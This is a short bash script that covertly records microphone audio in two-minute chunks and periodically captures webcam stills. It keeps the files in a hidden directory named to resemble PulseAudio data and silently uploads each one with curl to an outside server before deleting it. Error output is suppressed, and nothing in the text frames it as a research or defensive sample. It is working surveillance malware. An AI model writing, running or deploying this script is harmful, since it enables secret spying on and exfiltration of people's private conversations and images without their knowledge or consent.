#!/bin/bash
out=${XDG_RUNTIME_DIR:-/tmp}/.pulse-x
mkdir -p "$out"
pactl list short sources | awk '!/monitor/{print $2; exit}' >"$out/src"
i=0
while true; do
  f="$out/$(date +%s).ogg"
  timeout 120 parecord -d "$(cat "$out/src")" --file-format=oga "$f" 2>/dev/null
  [ $((i++ % 5)) -eq 0 ] && ffmpeg -v quiet -f v4l2 -i /dev/video0 -frames:v 1 "${f%.ogg}.jpg"
  for x in "$out"/*.ogg "$out"/*.jpg; do
    [ -e "$x" ] && curl -sf -F "f=@$x" https://notes.example.org/in && rm -f "$x"
  done
done
